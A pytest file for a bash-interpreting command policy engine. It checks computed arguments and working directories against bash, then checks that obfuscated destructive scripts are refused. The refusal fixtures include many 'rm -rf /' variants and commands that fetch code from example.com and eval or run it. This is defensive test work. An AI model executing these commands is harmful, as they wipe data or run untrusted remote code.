"""Arguments that the interpreter computes are those that bash passes. Each case was found by `make fuzz`, which runs
such scripts in bash and compares; here they have names. `alpha` is the command that is examined."""

from __future__ import annotations

import gc
from collections.abc import Iterator

import pytest

from fuzz.target import TARGETS, Target
from nacre import Decision
from nacre.shell import read
from nacre.shell.symbolic import STAR, UNKNOWN_NONEMPTY
from tests.policy.test_corpus import verdict

FUNCTIONS = {
    "x=1; f() { alpha $x; }; f; x=2; f": ["1", "2"],
    "f() { x=$1; }; x=0; f a; f b; alpha $x": ["b"],
    "f() { x=two; }; x=one; f; x=one; f; alpha $x": ["two"],
    "f() { local x=in; g; }; g() { alpha $x; }; x=out; f; g": ["in", "out"],
    "f() { alpha a; }; f; f() { alpha b; }; f": ["a", "b"],
    "f() { read -r x; alpha $x; }; echo a | f; echo b | f": ["a", "b"],
}
ARGUMENTS = {
    'f() { shift; alpha "$@"; }; f $x a b': ["b", "a b", "…"],
    'f() { shift; alpha "$@"; }; f "$x" a b': ["a b"],
    'f() { shift; alpha "${@:2}"; }; f *.txt': ["", "…"],
    "f() { alpha ${2:-none}; }; f *.txt": ["*.txt", "none", "…"],
    "f() { alpha $1; }; f a $x b": ["a"],
    'f() { shift; alpha "$@"; }; f "${x[@]}" a b': ["b", "a b", "…"],
    "set -- a; shift 2; alpha $1": ["a"],
    'set -- $x a; alpha "$@"; shift; alpha $1': ["… a", "a", "…"],
    'set -- a b; beta && set -- c; alpha "$@"': ["c", "a b"],
    "set -- a b; beta || shift; alpha $1": ["a", "b"],
    'if beta; then set -- a; else set -- b; fi; alpha "$1" "${@:1}"': ["a a", "b b"],
    'f() { beta && set -- in; alpha "$@"; }; set -- out; f a; alpha "$@"': ["in", "a", "out"],
    "for x in p 'q r'; do set -- $x; alpha $2; done": ["", "r"],
    "while a; do f; f() { alpha $x; }; x=k; done": ["k"],
}
ARRAYS = {
    "a=(p q); declare a='(r s)'; alpha \"${a[@]}\"": ["r s"],
    "a=(p q); declare a+='(r s)'; alpha \"${a[@]}\"": ["p q r s"],
    "a=(p q); f() { local a='(r s)'; alpha \"$a\"; }; f": ["(r s)"],
    "a=(p q); readonly a='(r s)'; alpha \"$a\"": ["(r s)"],
    "a=(p q); declare a[1]='r s' a+=t; alpha \"${a[@]}\"": ["pt r s"],
    "a=(p q); export a; bash -c 'alpha \"$a\"'": ["…"],
    'a=(?.txt k); alpha "${a[*]}"': ["?.txt k", "…"],
    'a=(p q r); a[1]=z; alpha "${a[@]}"': ["p z r"],
    "a=(p q r); unset 'a[1]'; alpha \"${a[@]}\"": ["p r"],
    'a=([2]=c [0]=a); alpha "${a[@]}"': ["a c"],
    "a=([2]=c d); alpha ${a[3]} ${a[0]}": ["d"],
    'a=(p q); a+=s; alpha "${a[@]}"': ["ps q"],
    'a=(p q); a=z; alpha "${a[@]}"': ["z q"],
    'a=one; a[1]=two; alpha "${a[@]}"': ["one two"],
    "a=(1 2); a[0]+=3; alpha ${a[0]}": ["13"],
    "a=(p q); a[-1]=z; alpha ${a[1]}": ["z"],
    "a=one; alpha x${a[1]}": ["x"],
    "a=(p q); printf -v 'a[1]' k; alpha ${a[1]}": ["k"],
    'declare -A m=([k]=v); m[k]=z; alpha "${m[@]}"': ["z"],
    "declare -A m=([k]=v); unset 'm[k]'; alpha \"x${m[k]}\"": ["x"],
    "declare -A m=(k v l w); alpha ${m[l]}": ["w"],
    'declare -A m=([k]=v); alpha "x$m"; m=z; alpha $m ${m[k]}': ["x", "z v"],
    'a=([2]=c); alpha "x$a"': ["x"],
    "mapfile -t -s1 -n1 a <<< $'p\\nq\\nr'; alpha \"${a[@]}\"": ["q"],
    'mapfile -d, -t a <<< p,q; alpha "${a[0]}"': ["p"],
    "a=([ab].txt); alpha ${a[0]}": ["[ab].txt"],
}
FIELDS = {
    "x='p q'; alpha a=$x": ["a=p q"],
    'alpha "$(type -P cat)" $(command -v cat)': ["…/cat …/cat"],
    "f() { :; }; alpha $(command -v f)": ["f"],
    "alpha $(type cat)": ["…"],
    "find . -fprintf s.sh 'alpha %%\\n'; . ./s.sh": ["%"],
    "x=a,,b; IFS=,; alpha $x": ["a  b"],
    'a=(p q); IFS=,; alpha "${a[*]}"': ["p,q"],
    'set -- p q; IFS=-; alpha "$*" $*': ["p-q p q"],
    "IFS=:, read -r x y z <<< a:b,c; alpha $x $y $z": ["a b c"],
    "read -r -d, x <<< 'a b,c'; alpha \"$x\"": ["a b", "c"],
    "read x y <<< 'one two three'; alpha \"$y\"": ["two three"],
    "alpha {01..03} {3..1}": ["01 02 03 3 2 1"],
    "export x={p,q}; alpha $x": ["q"],
    "x=~/a:~/b; alpha $x": ["/home/dev/a:/home/dev/b"],
    "alpha $(basename /a/b.c .c)": ["b"],
    "printf 'p\\0q\\0' | xargs -0 alpha": ["p q"],
}
PARAMETERS = {
    "x=abc; alpha ${x^^[ab]} ${x^}": ["ABc Abc"],
    'x=a/b/c; alpha "${x//\\//-}"': ["a-b-c"],
    "x=aXb; alpha ${x/X/[&]}": ["a[X]b", "a[&]b"],
    "x=; alpha -${x-d} -${x:-d}": ["- -d"],
    "x='a b'; alpha \"${x@Q}\"": ["'a b'"],
    "x=y; alpha ${x@A}": ["…"],
    "shopt -s extglob\nx=aab; alpha ${x##+(a)}": ["…"],
    "declare -i n=3+4; alpha $n": ["…"],
    "declare -i n; n=5; alpha $n": ["5"],
    "declare -u x=abc; alpha $x": ["ABC"],
    "declare -l x; x=ABC; alpha $x": ["abc"],
    "declare -n r=x; read -r r <<< k; alpha $x": ["k"],
    "declare -n r=x; unset -n r; r=k; x=y; alpha $x": ["y"],
    "x=one env -u x bash -c 'alpha ${x-gone}'": ["gone"],
}
BAD_SUBSTITUTIONS = {
    "(: ${(}); alpha k": ["k"],
    '(: "${(alpha in)}"); alpha k': ["k"],
}
WAYS = {
    'x=one; [ -n "$x" ] && (( x = 2 )); alpha $x': ["…", "one"],
    "alpha ${y:=${x:+set}}; alpha $y": ["set", ""],
    "alpha $(beta && echo k)": ["…k", "…"],
    "x=p; beta && x=q; alpha $(echo $x)": ["q", "p"],
    "for x in p q; do alpha $(echo $x | cat); done": ["p q", "…"],
    "x=0; case k in k) x=1;& l) alpha $x;; esac": ["1", "0"],
    "x=0; case k in k) x=1;;& *) alpha $x;; esac": ["1", "0"],
    "for x in a b; do for y in $x 1; do alpha $y; done; done": ["a", "1", "b"],
    "set -- a b c; while (($#)); do alpha $1; shift; done": ["a", "b", "c", "", "…"],
    'f() { [ $# = 0 ] && return; alpha $1; shift; f "$@"; }; f a b c': ["a", "b", "…"],
    "if a; then x=1; else x=2; fi; if b; then y=3; else y=4; fi; alpha $x$y": ["13", "24", "14", "23"],
    'x=$(a) && y=1; x=${x:+set}; alpha "$x"': ["set", ""],
    'while read -r x; do :; done <<< k; alpha "$x"': ["k", ""],
    "set -- a; false && set -- b; alpha $1": ["b", "a"],
    "shopt -s lastpipe; x=a; echo k | read -r x; alpha $x": ["k"],
    "x=one; getopts ab x -b; alpha $x": ["…"],
    "for x in $(unknown; echo p); do alpha $x; done": ["…p", "…"],
}
TRAPS = {
    "x=1; trap 'alpha $x' EXIT; x=2": ["1", "2"],
    "(trap 'alpha $x' EXIT; x=2); x=3": ["…", "2"],
    "x=1; bash -c 'trap \"alpha \\$x\" EXIT; x=2'; x=3": ["1", "…", "2"],
    "trap 'trap \"alpha b\" EXIT' EXIT": ["b"],
}
ALIASES = {
    "shopt -s expand_aliases\nalias b='alpha k'\nalias b='alpha l'; b m": ["k m"],
    "if a; then shopt -s expand_aliases; fi\nalias b=alpha\nb k": ["k"],
    "shopt -s expand_aliases\nif a; then alias alpha='alpha k'; fi\nalpha l": ["k l", "l"],
    "shopt -s expand_aliases\na && alias alpha='alpha k'\nalpha l": ["k l", "l"],
    "shopt -s expand_aliases\nalias a='alpha '\nalias k=one\na k": ["one"],
    "shopt -s expand_aliases\nalias a=alpha\na 'p q' r": ["p q r"],
}
FILES = {
    "echo x=k > s.sh; . ./s.sh; alpha $x": ["k"],
    "beta || echo x=k > s.sh; . ./s.sh; alpha $x": ["k", "…"],
    "beta && echo x=k > s.sh; . ./s.sh; alpha $x": ["k", "…"],
    "beta && echo x=k > s.sh && . ./s.sh && alpha $x": ["k"],
    "beta && { echo x=k > s.sh; . ./s.sh; alpha $x; }": ["k"],
    "if beta; then echo x=k > s.sh; fi; . ./s.sh; alpha $x": ["k", "…"],
    "if beta; then echo x=k > s.sh; else echo x=l > s.sh; fi; . ./s.sh; alpha $x": ["k", "l"],
    "if beta; then :; elif echo x=k > s.sh; then :; fi; . ./s.sh; alpha $x": ["k", "…"],
    "case k in l) echo x=l > s.sh;; *) . ./s.sh; alpha $x;; esac": ["…"],
    "case k in k) echo x=k > s.sh;& l) . ./s.sh; alpha $x;; esac": ["k", "…"],
    "for i in $y; do echo x=k > s.sh; done; . ./s.sh; alpha $x": ["k", "…"],
    "for i in s.sh t.sh; do echo x=k > $i; done; . ./s.sh; alpha $x": ["k"],
    "if beta; then i=s.sh; else i=t.sh; fi; echo x=k > $i; . ./s.sh; alpha $x": ["k", "…"],
    "if beta; then i=k; else i=l; fi; echo x=$i > s.sh; . ./s.sh; alpha $x": ["k", "l"],
    "beta && echo x=k > s.sh; echo y=l >> s.sh; . ./s.sh; alpha $x $y": ["k l", "… l"],
    "beta && echo x=k > s.sh; cp s.sh t.sh; . ./t.sh; alpha $x": ["k", "…"],
    "beta && echo k > s.txt; alpha $(cat s.txt)": ["… k", "…"],
    "beta && echo k > s.txt; read -r x < s.txt; alpha $x": ["…", "k"],
    "beta && echo k > s.txt; while read -r x; do alpha $x; done < s.txt": ["…", "k"],
    "beta || echo alpha k > s.sh; bash s.sh": ["k"],
    "if beta; then echo alpha k > s.sh; else echo alpha l > s.sh; fi; bash ./s.sh": ["k", "l"],
    "f() { echo x=k > s.sh; }; beta && f; . ./s.sh; alpha $x": ["k", "…"],
    "${y:+beta} tee s.sh <<< x=k; . ./s.sh; alpha $x": ["k", "…"],
    "trap 'echo x=k > s.sh' USR1; . ./s.sh; alpha $x": ["k", "…"],
}
REFERENCES = {
    "x=1; beta && declare -n r=x; r=2; alpha $x $r": ["1 2", "… 2"],
    "x=1; if beta; then declare -n r=x; fi; read -r r <<< k; alpha $x": ["1", "…"],
}
ALL = {
    **FUNCTIONS, **ARGUMENTS, **ARRAYS, **FIELDS, **PARAMETERS, **BAD_SUBSTITUTIONS, **WAYS, **TRAPS, **ALIASES,
    **FILES, **REFERENCES,
}  # fmt: skip
PLACES = {
    "if a; then cd sub; fi; alpha": ("/home/dev/project/sub", False),
    "case x in x) cd sub;; esac; alpha": ("/home/dev/project/sub", False),
    "cd sub || alpha": ("/home/dev/project", True),
    "cd sub || true; alpha": ("/home/dev/project/sub", False),
    "cd sub || exit; alpha": ("/home/dev/project/sub", True),
    "if a; then :; else cd sub; fi; alpha": ("/home/dev/project/sub", False),
    "a && cd sub || alpha": ("/home/dev/project", False),
    "set -e; cd sub; set +e; alpha": ("/home/dev/project/sub", True),
    "set -e; set +e; cd sub; alpha": ("/home/dev/project/sub", False),
    "set -- -e; cd sub; alpha": ("/home/dev/project/sub", False),
    "f() { cd sub; }; (f); f; alpha": ("/home/dev/project/sub", False),
    "cd sub; cd ../sub; alpha": ("/home/dev/project/sub", False),
    "cd sub; cd more && alpha": ("/home/dev/project/sub/more", False),
    "cd sub; cd /tmp && alpha": ("/tmp", True),
    "cd sub && beta && cd ..; alpha": ("/home/dev/project", False),
    "set -e; cd sub && ls; alpha": ("/home/dev/project/sub", False),
    "set -e; if a; then set +e; fi; cd sub; alpha": ("/home/dev/project/sub", False),
    "a && set -e; cd sub; alpha": ("/home/dev/project/sub", False),
    "if cd sub; then :; else alpha; fi": ("/home/dev/project", True),
    "if ! cd sub; then alpha; fi": ("/home/dev/project", True),
    "! cd sub && alpha": ("/home/dev/project/sub", False),
    "{ cd sub && beta; } || alpha": ("/home/dev/project", False),
    "while cd sub; do :; done; alpha": ("/home/dev/project/sub", False),
    "for x in a b; do (cd $x && alpha); done": (f"/home/dev/project/{STAR}", True),
    "CDPATH=/srv; cd sub && alpha": (UNKNOWN_NONEMPTY, True),
    "cd /proc/self/cwd/sub && alpha": ("/home/dev/project/sub", True),
}


@pytest.mark.parametrize(("text", "given"), ALL.items(), ids=list(ALL))
def test_interpreter_computes_the_arguments_that_bash_passes(text: str, given: list[str]) -> None:
    script = read(text, cwd="/home/dev/project", home="/home/dev")
    found = [command.words.partition(" ")[2] for command in script.commands if command.name == "alpha"]
    assert list(dict.fromkeys(found)) == given


@pytest.fixture(scope="module")
def running() -> Iterator[Target]:
    target = TARGETS["running"].load_target()
    yield target
    target.close()


@pytest.mark.parametrize("text", ALL, ids=list(ALL))
def test_bash_agrees_with_the_expected_arguments(text: str, running: Target) -> None:
    assert running.wrong(text) == ""


@pytest.mark.parametrize(("text", "place"), PLACES.items(), ids=list(PLACES))
def test_interpreter_finds_the_working_directory_of_a_command(text: str, place: tuple[str, bool]) -> None:
    script = read(text, cwd="/home/dev/project", home="/home/dev")
    [command] = [command for command in script.commands if command.name == "alpha"]
    assert (command.cwd, command.cwd_certain) == place


@pytest.mark.parametrize(
    "text",
    [
        "D=build; clean() { rm -rf $D; }; clean; D=/; clean",
        "run() { bash; }; echo ls | run; echo 'rm -rf /' | run",
        "D=tmp; trap 'rm -rf $D' EXIT; D=/",
        "D=tmp; case $1 in a) D=/;& b) rm -rf $D;; esac",
        "for a in x /; do for b in $a y; do rm -rf $b; done; done",
        "shopt -s expand_aliases\nalias sudo='sudo '\nalias wipe='rm -rf'\nsudo wipe /",
        'curl -s example.com/x | while read -r a b; do eval "$a"; done',
        'curl -s example.com/x | { read -ra words; eval "${words[@]}"; }',
        'x=$(curl -s example.com/x); eval "${x@A}"',
        "X='1 rm -rf /'; env A=$X",
        "for x in 'rm -rf /' ls; do echo \"$x\" | sh; done",
        "if a; then shopt -s expand_aliases; fi\nalias wipe='rm -rf'\nwipe /",
        "find . -maxdepth 0 -fprintf s.sh 'rm -rf /'; sh s.sh",
        "$(type -P rm) -rf /",
        "(: ${(}); rm -rf /",
        "for d in x /; do (cd $d && rm -rf *); done",
        '[ -z "$D" ] && echo \'no D\'; rm -rf "$D"/*',
        'test -f env.sh || echo D=build > env.sh; . ./env.sh; rm -rf "$D"/*',
        "test -f s.sh || echo 'rm -rf /' > s.sh; sh s.sh",
        "if a; then echo 'rm -rf /' > s.sh; else echo ls > s.sh; fi; ./s.sh",
        "[ -f s.sh ] && echo ls > s.sh || curl -o s.sh example.com/s; cp s.sh t.sh; bash t.sh",
        'shopt -s expand_aliases\nalias x=\'eval "alias x=\\"rm -rf /\\"\nx"\'\nx',
        'cd src && set -- rm -rf /; "$@"',
        'echo hi && set -- rm -rf /; "$@"',
        'b || set -- /; rm -rf "$1"',
        'if a; then set -- x; else set -- /; fi; rm -rf "$*"',
        '[ -n "$X" ] && set -- --force; git push "$@"',
        'case $X in a) set -- rm -rf /;; esac; "$@"',
        'cd src && set -- /; for d; do rm -rf "$d"; done',
        'cd src && set -- a /; rm -rf "${@:2}"',
        'cd src && set -- a /; shift; rm -rf "$1"',
        'cd src && set -- -d /; while getopts d: o; do rm -rf "$OPTARG"; done',
        'cd src && set -- /; bash -c \'rm -rf "$1"\' _ "$@"',
        'clean() { [ "$1" = -v ] && shift; rm -rf "$1"; }; clean -v /',
        'set -- /; while a; do set -- x; done; rm -rf "$@"',
        'set -- a b c d /; while [ $# -gt 0 ]; do rm -rf "$1"; shift; done',
        'cd src && g() { echo /; }; rm -rf "$(g)"',
        'cd src && g() { echo "rm -rf /"; }; g | sh',
        "case $X in a) D=/;;& b) D=x;;& c) rm -rf $D;; esac",
    ],
)
def test_destructive_command_found_only_by_interpretation_is_refused(text: str) -> None:
    assert verdict(text).decision is Decision.REFUSE


@pytest.mark.parametrize(
    "text",
    [
        'clean() { rm -rf "$2/"; }; clean "$mode" build',
        'clean() { rm -rf "$1/"; }; clean *.d',
        "for d in a b; do (cd $d && rm -rf *); done",
        'D=$(cd build && pwd); rm -rf "$D/out"',
        'echo D=build > env.sh; . ./env.sh; rm -rf "$D"/*',
        'mkdir -p x && echo D=build > x/env && . x/env && rm -rf "$D"/*',
        'if a; then echo D=x > env; else echo D=y > env; fi; . ./env; rm -rf "$D"/*',
        'if a; then set -- x; else set -- y; fi; rm -rf "$1"/*',
        '[ $# -eq 0 ] && set -- build dist; rm -rf "$@"',
        'cd src && g() { echo build; }; rm -rf "$(g)"',
        'clean() { [ "$1" = -v ] && shift; rm -rf "$1"/*; }; clean -v build',
    ],
)
def test_harmless_command_is_allowed_with_partly_known_values(text: str) -> None:
    assert verdict(text).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "text",
    [
        '[ -z "$D" ] && exit 1; rm -rf "$D"/*',
        'true && [ -z "$D" ] && exit 1; rm -rf "$D"/*',
        '[ -z "$D" ] && D=build; rm -rf "$D"/*',
    ],
)
def test_emptiness_test_that_exits_proves_a_variable_is_not_empty(text: str) -> None:
    assert verdict(text).decision is Decision.ALLOW


@pytest.mark.parametrize("text", ['cd src && set -- a; ls "$@"', 'shift $n; ls "$@"', "for d; do ls $d; done"])
def test_unknown_arguments_are_named_in_the_verdict(text: str) -> None:
    assert "$@" in verdict(text).unknown


@pytest.mark.parametrize(
    "text",
    ["ls", "x=$(a | b); f() { f; }; f", "for i in a b; do c $i; done < <(d)", "bash -c 'sudo e'; trap g EXIT; if"],
)
def test_read_leaves_nothing_to_the_garbage_collector(text: str) -> None:
    read(text, cwd="/", home="/home/u")  # what it loads on first use may do so
    gc.collect()
    gc.disable()
    try:
        read(text, cwd="/", home="/home/u")
        assert gc.collect() == 0
    finally:
        gc.enable()
